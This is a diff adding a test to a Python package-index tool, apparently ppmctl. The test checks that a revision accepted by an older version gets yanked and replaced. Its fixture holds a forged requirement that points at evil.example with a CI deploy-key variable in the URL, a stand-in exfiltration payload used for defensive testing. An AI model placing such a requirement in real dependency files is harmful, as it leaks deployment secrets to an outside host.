@@ -19,14 +19,16 @@ from support.answers import Asked, Party, ask
 from support.clients import Machine
 from support.environments import revision
 from support.evidence import until
-from support.servers import Server, ppmctl
+from support.servers import Server, clean_environment, ppmctl
 from support.tracing import counted
 
+from ppmctl.distributions import distribution
 from ppmctl.distributions.environment_revision import FILES, Revision
 from ppmctl.distributions.environment_wheel import from_wheel, to_wheel
 from ppmctl.index import project_folder
 from ppmctl.index.layout import RECORD, Volume
 from ppmctl.index.project_folder import Record
+from ppmctl.index.store import Store
 
 LOCK = 'lock-version = "1.0"\ncreated-by = "a test"\npackages = []\n'
 FOR_EVER = "max-age=31536000, immutable, private"
@@ -237,6 +239,29 @@ def test_a_lock_that_is_not_the_same_everywhere_is_refused(index: Server, old: s
     answer = index.upload(environments.forged("locked-badly", 1, "x", lock=lock.replace(old, new)))
     assert answer.status_code == 400
     assert "s3cret" not in answer.text
+
+
+def test_a_revision_that_an_older_ppm_accepted_is_yanked_and_replaced(index: Server, tmp_path: Path) -> None:
+    """Nobody gets its list, and its environment can be changed again."""
+    assert index.upload(revision("aged", 1, "numpy")).status_code == 200
+    name, content = environments.forged("aged", 2, "x @ https://evil.example/${CI_DEPLOY_KEY}/x.whl")
+    store = Store(Volume(root=index.root))
+    with store.area.new_file() as received:
+        received.write(content)
+        received.finish()
+        store.put(received, distribution.inspect(received.path, name), by="admin")
+    store.area.close()
+    assert form(index, "aged/2/requirements.txt").status_code == 404
+    assert text(index, "aged/requirements.txt") == "# ppm-env-aged, revision 1\nnumpy\n"
+    who = {"PPMCTL_USERNAME": index.user, "PPMCTL_TOKEN": index.secret, "PPMCTL_INDEX": index.url}
+    environ = clean_environment(tmp_path / "home", **who)
+    refused = ppmctl("env", "add", "aged", "flask", "--no-check", env=environ, expect=1)
+    assert "replace ${NAME} by the value of an environment variable" in refused.stderr
+    command = "ppmctl package yank ppm-env-aged 2"
+    assert command in refused.stderr
+    ppmctl(*command.split()[1:], env=environ)
+    assert ppmctl("env", "add", "aged", "flask", "--no-check", env=environ).stdout == "aged@3\n"
+    assert text(index, "aged/requirements.txt") == "# ppm-env-aged, revision 3\nflask\nnumpy\n"
 
 
 # owners
